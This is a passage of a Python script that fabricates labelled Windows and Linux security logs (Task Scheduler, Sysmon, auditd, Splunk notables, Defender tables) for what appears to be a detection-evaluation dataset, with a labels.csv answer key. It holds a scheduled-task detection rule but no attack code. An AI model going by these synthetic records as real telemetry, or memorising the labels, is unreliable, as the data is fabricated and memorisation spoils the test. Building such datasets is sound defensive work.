def ts_user(e):
    dom, name = split_user(e["user"])
    if e["user"] == SYSTEM or name.endswith("$"):
        return "NT AUTHORITY\\System"
    return "%s\\%s" % (dom or DOMAIN, name)


def xml_ts_registration(e):
    eid, name, key = {"created": (106, "TaskRegisteredEvent", "UserContext"),
                      "updated": (140, "TaskRegistrationUpdatedEvent", "UserName"),
                      "deleted": (141, "TaskRegistrationDeletedEvent", "UserName")}[e["op"]]
    rec = counter((e["host"], "ts"))
    return EV_NS + system_xml("Microsoft-Windows-TaskScheduler", TS_GUID, eid, 0, 4, eid, 0, "0x8000000000000000",
                              jitter(e["t"], 0, 1), rec, 1536, 2204, TS_CH, e["host"],
                              "<Security UserID='S-1-5-18'/>") + data_xml([("TaskName", e["name"]), (key, ts_user(e))],
                                                                         name) + "</Event>"


def xml_ts_run(e):
    inst = guid("inst", e["host"], e["name"], e["t"]).upper()
    out = []
    rec = counter((e["host"], "ts"))
    out.append(EV_NS + system_xml("Microsoft-Windows-TaskScheduler", TS_GUID, 200, 1, 4, 200, 1, "0x8000000000000000",
                                  e["t"], rec, 1536, 2204, TS_CH, e["host"], "<Security UserID='S-1-5-18'/>", inst) +
               data_xml([("TaskName", e["name"]), ("TaskAction", e["image"]), ("EnginePID", str(e["pid"])),
                         ("TaskInstanceId", "{%s}" % inst)], "ActionStart") + "</Event>")
    t2 = e["t"] + dt.timedelta(seconds=rng.randrange(3, 200), microseconds=rng.randrange(999999))
    rec = counter((e["host"], "ts"))
    out.append(EV_NS + system_xml("Microsoft-Windows-TaskScheduler", TS_GUID, 201, 2, 4, 201, 2, "0x8000000000000000",
                                  t2, rec, 1536, 2204, TS_CH, e["host"], "<Security UserID='S-1-5-18'/>", inst) +
               data_xml([("TaskName", e["name"]), ("TaskInstanceId", "{%s}" % inst), ("ActionName", e["image"]),
                         ("ResultCode", str(e["result"])), ("EnginePID", str(e["pid"]))], "ActionSuccess") + "</Event>")
    return [(e["t"], out[0]), (t2, out[1])]


def zirc_system(e, provider, gd, eid, version, level, task_, keywords, channel, logfile, userid=True):
    rec = counter((e["host"], channel))
    m = [("Provider_Name", provider), ("Guid", gd), ("EventID", eid), ("Version", version), ("Level", level),
         ("Task", task_), ("Opcode", 0), ("Keywords", keywords), ("SystemTime", utc_z(e["t"], 6)),
         ("EventRecordID", rec), ("Channel", channel), ("Computer", fqdn(e["host"]))]
    if userid:
        m.append(("UserID", "S-1-5-18"))
    return m, "%s_%s.evtx" % (e["host"], logfile)


def zirc_match(e):
    if e["kind"] == "proc":
        m, log = zirc_system(e, "Microsoft-Windows-Sysmon", SYSMON_GUID, 1, 5, 4, 1, "0x8000000000000000", SYSMON_CH,
                             "Microsoft-Windows-Sysmon%4Operational")
        for k, v in sysmon1_fields(e):
            if k == "Hashes":
                for part in v.split(","):
                    a, b = part.split("=")
                    m.append((a, b))
            elif k in ("ProcessId", "ParentProcessId", "TerminalSessionId"):
                m.append((k, int(v)))
            else:
                m.append((k, v.strip("{}") if k.endswith("Guid") else v))
    elif e["kind"] == "task":
        eid = {"created": 4698, "updated": 4702, "deleted": 4699}[e["op"]]
        m, log = zirc_system(e, "Microsoft-Windows-Security-Auditing", SEC_GUID, eid, 1, 0, 12804,
                             "0x8020000000000000", "Security", "Security", userid=False)
        content_key = "TaskContentNew" if eid == 4702 else "TaskContent"
        for k, v in subject(e) + [("TaskName", e["name"]), (content_key, e["xml"])] + client_fields(e):
            m.append((k, int(v) if k in ("ClientProcessId", "ParentProcessId", "RpcCallClientLocality",
                                         "ClientProcessStartKey") else v))
    else:  # TaskScheduler 129: the task process was created
        m, log = zirc_system(e, "Microsoft-Windows-TaskScheduler", TS_GUID, 129, 0, 4, 129, "0x8000000000000000",
                             TS_CH, "Microsoft-Windows-TaskScheduler%4Operational")
        m += [("TaskName", e["name"]), ("Path", e["image"]), ("ProcessID", e["pid"]), ("Priority", 16384)]
    m.append(("OriginalLogfile", log))
    return m


def sigma_sql(rule):
    return "SELECT * FROM logs WHERE (%s)" % {
        "Scheduled Task Creation Via Schtasks.EXE":
            "(Image LIKE '%\\\\schtasks.exe' ESCAPE '\\\\' AND CommandLine LIKE '% /create %' ESCAPE '\\\\') AND NOT "
            "(User LIKE '%AUTHORI%' ESCAPE '\\\\' OR User LIKE '%AUTORI%' ESCAPE '\\\\')",
    }.get(rule, "-- %s (abbreviated)" % SIGMA[rule][1])


def mde_account(u):
    dom, name = split_user(u)
    return dom.lower(), name.lower(), sid_of(u)


def device_id(host):
    return hid("mde-device", host, n=40)


def urgency(rule):
    score = ESCU[rule][1]["risk_score_confidence_x_impact_div_100"]
    return "high" if score >= 60 else "medium" if score >= 40 else "low"


def notable(e, rule, extra):
    nt = e["t"] + dt.timedelta(minutes=rng.randrange(4, 19), seconds=rng.randrange(60))
    eid = "%s@@notable@@%s" % (guid("notable", e["seq"], rule).upper(), hid("nh", e["seq"], rule))
    first = e["t"].astimezone(BST).strftime("%Y-%m-%dT%H:%M:%S")
    res = {"_time": nt.astimezone(BST).strftime("%Y-%m-%dT%H:%M:%S.") + "%03d+01:00" % (nt.microsecond // 1000),
           "orig_time": "%d" % int(e["t"].timestamp()), "rule_name": rule, "rule_title": rule,
           "search_name": "ESCU - %s - Rule" % rule, "security_domain": "endpoint", "severity": urgency(rule),
           "urgency": urgency(rule), "status": "1", "status_label": "New", "status_group": "Open",
           "owner": "unassigned", "event_id": eid, "event_hash": hid("eh", eid),
           "annotations.mitre_attack": ESCU[rule][2], "risk_score": str(ESCU[rule][1]["risk_score_confidence_x_impact_div_100"]),
           "count": "1", "firstTime": first, "lastTime": first}
    res.update(extra)
    return nt, res


def escu_proc_fields(e):
    name = e["image"].split("\\")[-1]
    return {"dest": fqdn(e["host"]).upper() if False else e["host"].upper(), "user": e["user"], "process": e["cmd"],
            "process_name": name, "original_file_name": pe_info(e["image"])[4] if pe_info(e["image"])[4] != "-"
            else name, "parent_process_name": e["parent"].split("\\")[-1], "parent_process": e["pcmd"],
            "process_id": str(e["pid"]), "parent_process_id": str(e["ppid"]), "process_path": e["image"],
            "parent_process_path": e["parent"]}


def audit_lines(e):
    """ENRICHED auditd lines (0x1D before the interpreted fields) with node= names."""
    ts = e["t"].timestamp()
    serial = counter((e["host"], "audit"), step=(30, 900))
    stamp = "%d.%03d:%d" % (int(ts), e["t"].microsecond // 1000, serial)
    head = "node=%s type=%%s msg=audit(%s): " % (e["host"], stamp)
    names = {"root": 0, "unset": 4294967295, "daemon": 1, "git": 998, "postgres": 26, "edi-acme": 1207}
    def num(u):
        return names.get(u, 1000 + int(hid("uid", u, n=4), 16) % 50000 if u not in names else names[u])
    auid, uid = e["auid"], e["uid"]
    sysno = {"execve": 59, "rename": 82, "openat": 257}[e["syscall"]]
    items = len(e["paths"]) if e["syscall"] != "execve" else 2
    comm = e.get("comm") or (e["argv"][0].split("/")[-1] if e["argv"] else e["exe"].split("/")[-1])
    enc = lambda v: ('"%s"' % v) if all(32 < ord(c) < 127 and c != '"' for c in v) else v.encode().hex().upper()
    gid = "crontab" if comm == "crontab" else uid
    lines = [head % "SYSCALL" + "arch=c000003e syscall=%d success=yes exit=%d a0=%x a1=%x a2=%x a3=0 items=%d "
             "ppid=%d pid=%d auid=%d uid=%d gid=%d euid=%d suid=%d fsuid=%d egid=%d sgid=%d fsgid=%d tty=%s ses=%s "
             "comm=%s exe=%s subj=unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023 key=\"%s\"\x1dARCH=x86_64 "
             "SYSCALL=%s AUID=\"%s\" UID=\"%s\" GID=\"%s\" EUID=\"%s\" SUID=\"%s\" FSUID=\"%s\" EGID=\"%s\" "
             "SGID=\"%s\" FSGID=\"%s\""
             % (sysno, 0 if e["syscall"] != "openat" else 3, 0x55d4c1a9e2b0 + serial, 0x55d4c1a9e2f8 + serial,
                0x55d4c1aa0c10 + serial, items, e["ppid"], e["pid"], num(auid), num(uid), num(uid), num(uid), num(uid),
                num(uid), num(gid), num(gid), num(gid), "pts0" if auid != "unset" else "(none)",
                str(3 + serial % 40) if auid != "unset" else "4294967295", enc(comm), enc(e["exe"]), e["key"],
                e["syscall"], auid, uid, gid, uid, uid, uid, gid, gid, gid)]
    if e["syscall"] == "execve":
        lines.append(head % "EXECVE" + "argc=%d " % len(e["argv"]) +
                     " ".join("a%d=%s" % (i, enc(a)) for i, a in enumerate(e["argv"])))
    lines.append(head % "CWD" + "cwd=%s" % enc(e["cwd"]))
    paths = [(e["exe"], "NORMAL"), ("/lib64/ld-linux-x86-64.so.2", "NORMAL")] if e["syscall"] == "execve" \
        else e["paths"]
    for i, (name, nt) in enumerate(paths):
        inode = 1500000 + int(hid("ino", e["host"], name, n=5), 16) % 400000
        lines.append(head % "PATH" + "item=%d name=%s inode=%d dev=fd:00 mode=%s ouid=0 ogid=0 rdev=00:00 "
                     "nametype=%s cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\x1dOUID=\"root\" OGID=\"root\""
                     % (i, enc(name), inode, "040755" if name.endswith("/") else "0100644", nt))
    title = e["argv"] if e["argv"] else [e["exe"]]
    lines.append(head % "PROCTITLE" + "proctitle=%s" % "\x00".join(title).encode().hex().upper())
    return lines


def build():
    check_rubric()
    benign_office()
    benign_ot()
    benign_linux()
    malicious()
    evs = sorted(EVENTS, key=lambda e: (e["t"], e["seq"]))
    zirc = {r: [] for r in SIGMA}
    xml = []
    audit = []
    splunk = []
    mde_proc = []
    mde_task = []
    for e in evs:
        h = e["host"]
        if e["kind"] == "proc":
            if h in OT:
                for r in sigma_process(e):
                    zirc[r].append(e)
            if h in OFFICE:
                for r in escu_process(e):
                    splunk.append((e, r) + notable(e, r, escu_proc_fields(e)))
                dom, name, sid = mde_account(e["user"])
                if is_schtasks(e) and has(e["cmd"], " /create ") and not has(name, "AUTHORI", "AUTORI"):
                    mde_proc.append(e)
            if h in IR_HOSTS and (e["image"].lower().endswith(("\\schtasks.exe", "\\at.exe"))
                                  or e["pcmd"] == SCHEDULE_CMD):
                xml.append((e["t"], xml_sysmon1(e), e))
        elif e["kind"] == "task":
            if h in OT:
                for r in sigma_task(e):
                    zirc[r].append(e)
            if h in OFFICE:
                mde_task.append(e)
                if h in SERVERS:
                    for r in escu_task(e):
                        splunk.append((e, r) + notable(e, r, {"dest": h.upper(), "TaskName": e["name"],
                                                              "TaskContent": e["xml"], "EventCode": "4698"}))
            if h in IR_HOSTS:
                xml.append((e["t"], xml_security_task(e), e))
                xml.append((e["t"], xml_ts_registration(e), e))
        elif e["kind"] == "run":
            if h in OT:
                for r in sigma_run(e):
                    zirc[r].append(e)
            if h in IR_HOSTS:
                for t, x in xml_ts_run(e):
                    xml.append((t, x, e))
        elif e["kind"] == "lx":
            audit.append(e)
            lines = None
            for r in escu_linux(e):
                extra = {"dest": h, "comm": e.get("comm") or (e["argv"][0] if e["argv"] else e["exe"].split("/")[-1]),
                         "exe": e["exe"], "SYSCALL": e["syscall"], "UID": e["uid"], "ppid": str(e["ppid"]),
                         "pid": str(e["pid"]), "type": "SYSCALL", "success": "yes"}
                if r.endswith("Existing Cronjob File"):
                    extra = {"dest": h, "type": "PATH", "name": [p for p, nt in e["paths"] if nt in ("CREATE", "NORMAL")
                                                                 and not p.endswith("/")][-1]}
                if r == "Linux Auditd Service Restarted":
                    extra = {"dest": h, "process_exec": " ".join(e["argv"]), "type": "PROCTITLE"}
                splunk.append((e, r) + notable(e, r, extra))
            if h in SYSMON_LINUX:
                for r in escu_sysmon_linux(e):
                    if e["syscall"] == "execve":
                        extra = {"dest": h, "user": e["auid"] if e["auid"] != "unset" else e["uid"],
                                 "process": " ".join(e["argv"]), "process_name": e["exe"].split("/")[-1],
                                 "parent_process_name": "bash" if e["auid"] != "unset" else "sh",
                                 "process_path": e["exe"], "process_id": str(e["pid"]),
                                 "parent_process_id": str(e["ppid"])}
                    else:
                        path = [p for p, nt in e["paths"] if nt == "CREATE"][0]
                        extra = {"dest": h, "file_path": path, "file_name": path.split("/")[-1],
                                 "file_create_time": e["t"].astimezone(BST).strftime("%Y-%m-%dT%H:%M:%S"),
                                 "process_guid": "{%s}" % guid("lxpg", h, e["pid"])}
                    splunk.append((e, r) + notable(e, r, extra))
    labels = []

    def label(f, n, e, rule):
        labels.append((f, n, e["verdict"], notes_for(rule, e) if rule else "", e["scenario"]))

    # Zircolite: rule results in rule-file order, matches oldest first; record numbers run over all matches.
    out, n = [], 0
    row = 0
    for rule in sorted(SIGMA, key=lambda r: SIGMA[r][1]):
        matches = zirc[rule]
        if not matches:
            continue
        items = []
        for e in matches:
            row += rng.randrange(3, 90)
            m = zirc_match(e)
            items.append(dict([("row_id", row)] + m))
            label(F_ZIRC, n, e, rule)
            n += 1
        sid, sfile, level, tags = SIGMA[rule]
        out.append({"title": rule, "id": sid, "description": "SigmaHQ rule %s" % sfile, "sigmafile": sfile,
                    "sigma": [sigma_sql(rule)], "rule_level": level, "tags": tags, "count": len(items),
                    "matches": items})
    text = "[" + ",\n".join(json.dumps(r, indent=2, ensure_ascii=False) for r in out) + "]"
    write(F_ZIRC, text)
    # Windows event XML (IR pull, wevtutil /f:xml /e:Events, merged oldest first).
    xml.sort(key=lambda x: x[0])
    write(F_XML, "<Events>\r\n" + "".join(x + "\r\n" for _, x, _ in xml) + "</Events>\r\n")
    for i, (_, _, e) in enumerate(xml):
        label(F_XML, i, e, None)
    # auditd: the central collector's log filtered by our keys (ausearch --raw), oldest first.
    lines = []
    for e in audit:
        label(F_AUDIT, len(lines), e, None)
        lines += audit_lines(e)
    write(F_AUDIT, "".join(l + "\n" for l in lines))
    # Splunk ES notables: REST export (output_mode=json), newest first as the search returns them.
    splunk.sort(key=lambda x: (x[2], x[0]["seq"]), reverse=True)
    rows = []
    for i, (e, rule, nt, res) in enumerate(splunk):
        obj = {"preview": False, "offset": i, "result": res}
        if i == len(splunk) - 1:
            obj["lastrow"] = True
        rows.append(json.dumps(obj, ensure_ascii=False, separators=(",", ":")))
        label(F_SPLUNK, i, e, rule)
    write(F_SPLUNK, "".join(r + "\n" for r in rows))
    # Defender advanced hunting: the saved query (Sigma port) over DeviceProcessEvents, newest first.
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(["Timestamp", "DeviceId", "DeviceName", "ActionType", "FileName", "FolderPath", "SHA1",
                "ProcessCommandLine", "ProcessIntegrityLevel", "ProcessTokenElevation", "AccountDomain", "AccountName",
                "AccountSid", "InitiatingProcessFileName", "InitiatingProcessFolderPath", "InitiatingProcessCommandLine",
                "InitiatingProcessAccountName", "InitiatingProcessParentFileName", "InitiatingProcessSignatureStatus",
                "ReportId"])
    for i, e in enumerate(sorted(mde_proc, key=lambda e: (e["t"], e["seq"]), reverse=True)):
        dom, name, sid = mde_account(e["user"])
        pdom, pname, _ = mde_account(e["puser"])
        signed = "Unsigned" if has(e["parent"], "\\AppData\\", "\\Temp\\") and e["verdict"] == "malicious" else "Valid"
        w.writerow([utc_z(e["t"]), device_id(e["host"]), fqdn(e["host"]), "ProcessCreated", "schtasks.exe", e["image"],
                    hashes(e["image"])[5:45].lower(), e["cmd"], e["integrity"],
                    "TokenElevationTypeDefault" if e["integrity"] in ("System", "Medium") else "TokenElevationTypeFull",
                    dom, name, sid, e["parent"].split("\\")[-1], e["parent"], e["pcmd"], pname, e["gparent"], signed,
                    counter((e["host"], "mde"), step=(3, 400))])
        label(F_MDE_PROC, i, e, MDE_PROC_QUERY)
    write(F_MDE_PROC, "\ufeff" + buf.getvalue())
    # Defender DeviceEvents ScheduledTask* rows (no rule: the query is a plain telemetry hunt), newest first.
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(["Timestamp", "DeviceId", "DeviceName", "ActionType", "InitiatingProcessFileName",
                "InitiatingProcessFolderPath", "InitiatingProcessCommandLine", "InitiatingProcessAccountDomain",
                "InitiatingProcessAccountName", "InitiatingProcessId", "InitiatingProcessParentFileName",
                "AdditionalFields", "ReportId"])
    for i, e in enumerate(sorted(mde_task, key=lambda e: (e["t"], e["seq"]), reverse=True)):
        ini = e["initiator"]
        if ini is None:  # remote registration: the RPC server side
            ini = dict(image=SVCHOST, cmd="svchost.exe -k netsvcs -p -s Schedule", user=SYSTEM, pid=1536,
                       parent="services.exe", gparent="services.exe")
        elif "kind" in ini and ini["host"] != e["host"]:
            ini = dict(image=SVCHOST, cmd="svchost.exe -k netsvcs -p -s Schedule", user=SYSTEM, pid=1536,
                       parent="services.exe")
        dom, name, _ = mde_account(ini["user"])
        subj = dict(subject(e))
        add = {"TaskName": e["name"], "TaskContent": e["xml"], "SubjectUserSid": subj["SubjectUserSid"],
               "SubjectUserName": subj["SubjectUserName"], "SubjectDomainName": subj["SubjectDomainName"],
               "SubjectLogonId": subj["SubjectLogonId"]}
        action = {"created": "ScheduledTaskCreated", "updated": "ScheduledTaskUpdated",
                  "deleted": "ScheduledTaskDeleted"}[e["op"]]
        w.writerow([utc_z(e["t"]), device_id(e["host"]), fqdn(e["host"]), action, ini["image"].split("\\")[-1],
                    ini["image"], ini["cmd"], dom, name, ini["pid"], (ini.get("gparent") if "kind" in ini else
                                                                      ini.get("parent")) or "services.exe",
                    json.dumps(add, ensure_ascii=False, separators=(",", ":")),
                    counter((e["host"], "mde"), step=(3, 400))])
        label(F_MDE_TASK, i, e, None)
    write(F_MDE_TASK, "\ufeff" + buf.getvalue())
    # labels, grouped by file in a fixed order
    order = [F_ZIRC, F_XML, F_AUDIT, F_SPLUNK, F_MDE_PROC, F_MDE_TASK]
    labels.sort(key=lambda l: (order.index(l[0]), l[1]))
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(["source_file", "record_no", "verdict", "notes", "scenario"])
    for l in labels:
        w.writerow(l)
    write("labels.csv", buf.getvalue())
    return labels


def write(name, text):
    with open(os.path.join(HERE, name), "w", encoding="utf-8", newline="") as f:
        f.write(text)


def main():
    labels = build()
    per = {}
    for f, _, v, notes, _ in labels:
        c = per.setdefault(f, [0, 0, 0])
        c[0 if v == "benign" else 1] += 1
        c[2] += 1 if notes else 0
    tb = sum(c[0] for c in per.values())
    tm = sum(c[1] for c in per.values())
    for f, (b, m, wn) in per.items():
        print("%-32s %4d records: %4d benign (%d with notes), %4d malicious" % (f, b + m, b, wn, m))
    print("total %d records: %d benign, %d malicious (%.1f %%)" % (tb + tm, tb, tm, 100.0 * tm / (tb + tm)))


if __name__ == "__main__":
    main()
